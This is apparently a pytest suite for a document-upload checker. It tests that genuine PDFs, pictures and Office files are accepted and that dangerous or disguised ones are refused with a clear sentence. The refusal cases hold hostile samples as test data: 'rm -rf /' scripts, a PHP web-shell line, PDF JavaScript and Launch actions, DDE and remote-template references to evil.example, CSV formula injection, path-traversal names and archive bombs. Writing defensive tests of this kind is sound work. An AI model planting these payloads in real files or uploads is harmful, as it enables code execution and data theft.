"""What a file really is: taken or refused by its content, each in under a second, in a clear sentence."""

import struct
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine.case.documents import sorts
from engine.case.documents.checking import LARGEST, LONGEST_NAME, check, safe_name
from engine.case.documents.sorts import Unfit
from tests import files
from tests.files import docx, jpeg, object_stream, odt, pdf, png, relation, segment, xlsx, zipped

HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def plain(name):
    """A name as a test can be called by it."""
    return "".join(c for c in name if c.isascii() and c.isalnum())


TAKEN = [
    ("letter.pdf", pdf(), sorts.PDF),
    ("A Form.PDF", pdf(b"4 0 obj\n<< /AcroForm << /Fields [] >> >>\nendobj\n"), sorts.PDF),
    ("opens at its page.pdf", pdf(b"4 0 obj\n<< /OpenAction [3 0 R /Fit] >>\nendobj\n"), sorts.PDF),
    ("packed.pdf", pdf(object_stream(b"<< /Type /Catalog >>")), sorts.PDF),
    ("photo.jpg", jpeg(), sorts.JPEG),
    ("photo.JPEG", jpeg(turned=6), sorts.JPEG),
    ("moving photo.jpg", jpeg(after=b"\x00\x00\x00\x18ftypmp42" * 50), sorts.JPEG),
    ("screen.png", png(), sorts.PNG),
    ("note.txt", b"She rang at 9.\r\nAll is well.", sorts.TEXT),
    ("old note.txt", "£40 – gone".encode("cp1252"), sorts.TEXT),
    ("note from Notepad.txt", "£40 gone".encode("utf-16"), sorts.TEXT),
    ("no ending", b"She rang at 9.", sorts.TEXT),
    ("report.docx", docx(), sorts.WORD),
    ("with links.docx", docx(relations=relation("hyperlink", "https://a.example", True)), sorts.WORD),
    ("from our template.docx",
     docx(relations=relation("attachedTemplate", "file:///C:\\T\\Letter.dotx", True)), sorts.WORD),
    ("bank.xlsx", xlsx({"xl/printerSettings/printerSettings1.bin": b"\x00\x01"}), sorts.EXCEL),
    ("statement.odt", odt(), sorts.ODT),
]  # fmt: skip

REFUSED = [
    # web pages, drawings, scripts, programs
    ("page.html", HTML, "This is a web page. Save it as a PDF and send that."),
    ("page.pdf", HTML, "says it is a PDF, but it is a web page. Save it as a PDF and send it again."),
    ("note.txt", HTML, "This file says it is plain text, but it is a web page."),
    ("note.txt", b"Dear Jean,\n<script src=//evil.example></script>", "but it is a web page."),
    ("note.txt", b"\xef\xbb\xbf  <HTML>", "but it is a web page."),
    ("note.txt", HTML.decode().encode("utf-16"), "but it is a web page."),
    ("photo.jpg", HTML, "This file says it is a JPEG picture, but it is a web page."),
    ("map.svg", b"<svg xmlns='x' onload='alert(1)'/>", "This is a drawing that can carry programs"),
    ("map.png", b"<?xml version='1.0'?><svg onload='x'/>", "says it is a PNG picture, but it is a drawing"),
    ("run.sh", b"#!/bin/sh\nrm -rf /\n", "This is a script. Programs are never taken."),
    ("note.txt", b"#!/bin/sh\nrm -rf /\n", "says it is plain text, but it is a script."),
    ("note.txt", b"hello <?php system($_GET['c']); ?>", "but it is a script."),
    ("code.js", b"alert(1)", "This is a script. Programs are never taken."),
    ("code.vbs", b"MsgBox 1", "This is a script."),
    ("setup.exe", b"MZ\x90\x00" + b"\x00" * 100, "This is a program. Programs are never taken."),
    ("letter.pdf", b"MZ\x90\x00" + b"\x00" * 100, "says it is a PDF, but it is a program."),
    ("report.docx", b"\x7fELF" + b"\x00" * 100, "says it is a Word document, but it is a program."),
    ("letter.pdf.exe", pdf(), "says it is a program, but it is a PDF. Save it as a PDF"),
    ("letter\u202efdp.exe", pdf(), "says it is a program, but it is a PDF."),
    ("letter.lnk", b"L\x00\x00\x00\x01\x14\x02" + b"\x00" * 80, "This is a program."),
    # archives
    ("all.zip", zipped({"a.txt": b"a"}), "This is an archive of files. Send the files in it one by one."),
    ("letter.pdf", zipped({"a.txt": b"a"}), "says it is a PDF, but it is an archive of files."),
    ("report.docx", zipped({"a.exe": b"MZ"}), "says it is a Word document, but it is an archive of files."),
    ("all.7z", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 40, "This is an archive of files."),
    ("all.rar", b"Rar!\x1a\x07\x00", "This is an archive of files."),
    ("all.gz", b"\x1f\x8b\x08\x00", "This is an archive of files."),
    ("all.tar", b"a.txt".ljust(257, b"\x00") + b"ustar\x0000", "This is an archive of files."),
    # two kinds in one
    ("photo.jpg", b"GIF89a/*" + b"\x00" * 20 + b"*/=1;alert(1)", "but it is a picture of another kind"),
    ("letter.pdf", b"\x00\x00junk" + pdf(), "says it is a PDF, but it is not."),
    ("note.txt", b"Dear Jean\n" + pdf(), "says it is plain text, but it is not."),
    ("letter.pdf", pdf(after=zipped({"a.class": b"x"})), "This PDF is not whole."),
    ("letter.pdf", pdf()[:-6] + zipped({"a": b"x"}, comment=b"\n%%EOF\n"), "two kinds of file in one"),
    ("report.docx", zipped({"[Content_Types].xml": b"<x/>", "word/a.xml": b""}, before=pdf()),
     "says it is a Word document, but it is a PDF."),
    # PDFs that start or hide something
    ("a.pdf", pdf(b"4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"), "has a program in it"),
    ("a.pdf", pdf(b"4 0 obj\n<< /S /J#61vaScr#69pt /JS (x) >>\nendobj\n"), "has a program in it"),
    ("a.pdf", pdf(object_stream(b"<< /S /JavaScript /JS (x) >>")), "has a program in it"),
    ("a.pdf", pdf(object_stream(b"<< /S /#4aavaScript /JS (x) >>")), "has a program in it"),
    ("a.pdf", pdf(object_stream(b"<<>>", b"[/FlateDecode /FlateDecode]", twice=True)), "cannot be checked"),
    ("a.pdf", pdf(object_stream(b"<<>>", b"[/ASCII85Decode /FlateDecode]")), "cannot be checked"),
    ("a.pdf", pdf(object_stream(b"<<>>", b"7 0 R")), "cannot be checked"),
    ("a.pdf", pdf(b"4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"), "would open or send something else"),
    ("a.pdf", pdf(b"4 0 obj\n<< /S /GoToR /F (\\\\evil\\a.pdf) >>\nendobj\n"), "would open or send"),
    ("a.pdf", pdf(b"4 0 obj\n<< /Type /EmbeddedFile >>\nstream\nMZ\nendstream\nendobj\n"), "files inside"),
    ("a.pdf", pdf(b"4 0 obj\n<< /Encrypt 5 0 R >>\nendobj\n"), "protected, so that it cannot be checked"),
    ("a.pdf", pdf(object_stream(b"<<>>" + b"\x00" * 40_000_000)), "cannot be checked"),
    ("a.pdf", pdf()[:-8], "This PDF is not whole."),
    # pictures
    ("big.png", png(30_000, 30_000), "too large to be opened safely"),
    ("big.jpg", jpeg(65_000, 65_000), "too large to be opened safely"),
    ("none.png", png(0, 3), "This picture is not whole."),
    ("broken.png", png()[:-20], "This picture is not whole."),
    ("changed.png", png().replace(b"IHDR\x00\x00\x00\x04", b"IHDR\x00\x00\x00\x05"), "is not whole"),
    ("broken.jpg", jpeg()[:-2], "This picture is not whole."),
    ("only its start.jpg", b"\xff\xd8\xff", "This picture is not whole."),
    ("photo.heic", b"\x00\x00\x00\x18ftypheic" + b"\x00" * 40, "(HEIC). Save it as a JPEG"),
    ("photo.jpg", b"\x00\x00\x00\x18ftypheic" + b"\x00" * 40, "but it is a picture as some"),
    ("call.m4a", b"\x00\x00\x00\x18ftypM4A " + b"\x00" * 40, "This is a recording. Keep it where"),
    # Office
    ("m.docm", docx({"word/vbaProject.bin": b"x"}), "This is an Office document with macros."),
    ("m.docx", docx({"word/vbaProject.bin": b"x"}), "This is an Office document with macros."),
    ("m.docx", docx(types='<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
     "with macros"),
    ("m.xlsx", xlsx({"xl/macrosheets/sheet1.xml": "<x/>"}), "with macros"),
    ("m.odt", odt({"Basic/Standard/Module1.xml": "<x/>"}), "with macros"),
    ("m.odt", odt(content="<script:event-listener/>"), "would start something"),
    ("ole.docx", docx({"word/embeddings/oleObject1.bin": b"MZ"}), "another file inside it"),
    ("ole.docx", docx(relations=relation("oleObject", "media/a.xml")), "another file inside it"),
    ("web.docx", docx({"word/afchunk.mht": b"x"}), "another file inside it"),
    ("far.docx", docx(relations=relation("attachedTemplate", "https://evil.example/a.dotm", True)), "fetch"),
    ("far.docx", docx(relations=relation("attachedTemplate", "file://evil.example/a", True)), "fetch"),
    ("far.docx", docx(relations=relation("image", "\\\\evil.example\\a.png", True)), "fetch"),
    ("far.odt", odt(content='<draw:image xlink:href="https://evil.example/a"/>'), "fetch"),
    ("dde.docx", docx(body="<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"), "would start something"),
    ("dde.xlsx", xlsx({"xl/externalLinks/externalLink1.xml": "<ddeLink/>"}), "would start something"),
    ("dtd.docx", docx(body='<!DOCTYPE a [<!ENTITY b "c">]>'), "parts that do not belong in it"),
    ("exe.docx", docx({"word/media/a.exe": b"MZ"}), "parts that do not belong in it"),
    ("up.docx", docx({"../../evil.xml": "<x/>"}), "parts that do not belong in it"),
    ("disk.docx", docx({"C:/evil.xml": "<x/>"}), "parts that do not belong in it"),
    ("twice.docx", docx({"WORD/document.xml": "<x/>"}), "parts that do not belong in it"),
    ("many.docx", docx({f"word/{n}.xml": "" for n in range(2_100)}), "parts that do not belong in it"),
    ("bomb.docx", docx({"word/a.xml": b" " * 20_000_000}), "grows far too large"),
    ("slow.xlsx", xlsx({"xl/a.xml": b"<c DDE instrText xlink:href=" * 1_600_000}), "far too large"),
    ("bomb.xlsx", xlsx({f"xl/{n}.xml": b" " * 1_000_000 for n in range(60)}), "grows far too large"),
    ("end.docx", zipped({"[Content_Types].xml": b"<x/>", "word/a.xml": b""}, comment=b"more"), "not whole"),
    ("half.docx", docx()[:-30], "This document is not whole."),
    ("locked.docx", OLE + "EncryptedPackage".encode("utf-16-le"), "protected with a password. Remove the"),
    ("locked.odt", odt(manifest="<manifest:encryption-data/>"), "protected with a password"),
    ("old.doc", OLE, "This is an old Office document. Save it as .docx, .xlsx or PDF"),
    ("letter.docx", OLE, "says it is a Word document, but it is an old Office document."),
    ("slides.pptx", zipped({"[Content_Types].xml": b"<x/>", "ppt/a.xml": b""}), "This is a presentation."),
    ("rich.rtf", rb"{\rtf1\ansi Hello}", "This is rich text (RTF)."),
    # mail and tables
    ("mail.eml", b"From: a@b.example\nMIME-Version: 1.0\nContent-Type: text/plain\n\nHi", "is an e-mail."),
    ("mail.txt", b"MIME-Version: 1.0\nContent-Type: text/html\n\nHi", "but it is an e-mail."),
    ("mail.msg", OLE + "__substg1.0_001A001F".encode("utf-16-le"), "This is an e-mail."),
    ("bank.csv", b"day,amount\n1,=cmd|'/c calc'!A0", "a table as plain text (CSV). Save it as an Excel"),
    # names, sizes, nothing
    ("letter.docx", pdf(), "says it is a Word document, but it is a PDF. Save it as a Word document"),
    ("photo.png", jpeg(), "says it is a PNG picture, but it is a JPEG picture."),
    ("letter.xyz", pdf(), "The name of this file ends in .xyz, but it is a PDF. Save it as a PDF"),
    ("empty.pdf", b"", "This file is empty."),
    ("large.txt", b"a" * (LARGEST + 1), "This file is larger than 10 MB."),
    ("what.bin", bytes(range(256)), "We cannot tell what this file is."),
    ("what", bytes(range(256)), "We cannot tell what this file is."),
]  # fmt: skip


@pytest.mark.parametrize(("name", "content", "sort"), TAKEN, ids=[plain(one[0]) for one in TAKEN])
def test_what_a_team_needs_is_taken(name, content, sort):
    assert check(name, content).sort is sort


@pytest.mark.guard("upload_type")
@pytest.mark.parametrize(
    ("name", "content", "says"),
    REFUSED,
    ids=[f"{n} {plain(one[0])}" for n, one in enumerate(REFUSED)],
)
def test_a_harmful_or_false_file_is_refused_in_a_sentence_and_at_once(name, content, says):
    began = time.perf_counter()

    with pytest.raises(Unfit) as refused:
        check(name, content)

    assert time.perf_counter() - began < 1
    assert says in str(refused.value) and str(refused.value).endswith(".")


@pytest.mark.guard("upload_size")
@pytest.mark.parametrize("content", [b"", b"a" * (LARGEST + 1)], ids=["empty", "too large"])
def test_a_file_has_something_in_it_and_no_more_than_10_mb(content):
    with pytest.raises(Unfit, match=r"empty|10 MB"):
        check("note.txt", content)


def test_a_file_of_just_10_mb_is_taken():
    assert len(check("note.txt", b"a" * LARGEST).content) == LARGEST


# -- where a photograph was taken ---------------------------------------------------


@pytest.mark.guard("upload_traces")
@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.jpg", jpeg()),
        ("a.jpg", jpeg(more=segment(0xFE, files.PLACE) + segment(0xE2, b"MPF\x00" + files.PLACE))),
        ("a.jpg", jpeg(after=files.PLACE)),
        ("a.png", png(more=files.part(b"eXIf", files.exif()[6:]))),
        ("a.png", png(more=files.part(b"tEXt", b"Where\x00" + files.PLACE))),
        ("a.png", png(after=files.PLACE)),
    ],
)
def test_a_photograph_is_kept_without_the_place_where_it_was_taken(name, content):
    assert files.PLACE in content

    kept = check(name, content).content

    assert files.PLACE not in kept and len(kept) < len(content)


def test_a_picture_of_which_nothing_is_left_out_is_kept_as_it_came():
    content = png(more=files.part(b"gAMA", struct.pack(">I", 45_455)))

    assert check("a.png", content).content == content


@pytest.mark.parametrize("turned", range(1, 9))
def test_a_photograph_stays_the_right_way_up(turned):
    tiff = files.exif(turned)[6:]
    note = struct.pack(">HHHIH", 1, 0x0112, 3, 1, turned)  # one entry: turned

    for kept in (
        check("a.jpg", jpeg(turned=turned)).content,
        check("a.png", png(more=files.part(b"eXIf", tiff))).content,
    ):
        assert (note in kept) == (turned > 1)


def test_what_was_kept_can_be_sent_again_and_stays_the_same():
    for name, content in (("a.jpg", jpeg(turned=6)), ("a.png", png(after=b"x"))):
        once = check(name, content)
        again = check(name, once.content)
        assert (once.content, once.sha256) == (again.content, again.sha256)


# -- names --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("C:\\Users\\jean\\Desktop\\letter.pdf", "letter.pdf"),
        ("../../etc/passwd", "passwd"),
        ("a\r\nContent-Type: text/html.pdf", "html.pdf"),
        ("le\x00tt\u202eer\u200b.pdf", "letter.pdf"),
        ('a"b;c<d>|e?.pdf', "a_b_c_d__e_.pdf"),
        ("  .hidden. ", "hidden"),
        ("", "file"),
        ("///", "file"),
        ("Müller’s café – March.pdf", "Müller’s café – March.pdf"),
        ("\ud800.pdf", "_.pdf"),
    ],
)
def test_a_name_is_made_safe(sent, kept):
    assert safe_name(sent) == kept


def test_a_long_name_keeps_its_ending():
    name = safe_name("very long " * 60 + ".docx")

    assert len(name) <= LONGEST_NAME and name.endswith(".docx")


def test_a_name_without_an_ending_is_given_its_own():
    assert check("scan 3.1", pdf()).name == "scan 3.1.pdf"


@given(
    st.text(max_size=300),
    st.binary(max_size=400),
    st.sampled_from([b"", *(c[:60] for _, c, _ in TAKEN)]),
)
@settings(max_examples=400, deadline=None)
def test_any_bytes_under_any_name_are_taken_or_refused_in_a_sentence(name, content, start):
    try:
        taken = check(name, start + content)
    except Unfit as refused:
        assert str(refused).endswith(".")
    else:
        assert taken.sort.media_type and taken.content and 0 < len(taken.name) <= LONGEST_NAME + 8


@given(st.sampled_from(TAKEN), st.integers(0, 10**6), st.binary(min_size=1, max_size=8))
@settings(max_examples=600, deadline=None)
def test_a_whole_file_with_a_few_bytes_changed_never_breaks_the_check(taken, at, bytes_):
    name, content, _ = taken
    at %= len(content)
    try:
        check(name, content[:at] + bytes_ + content[at + len(bytes_) :])
    except Unfit as refused:
        assert str(refused).endswith(".")
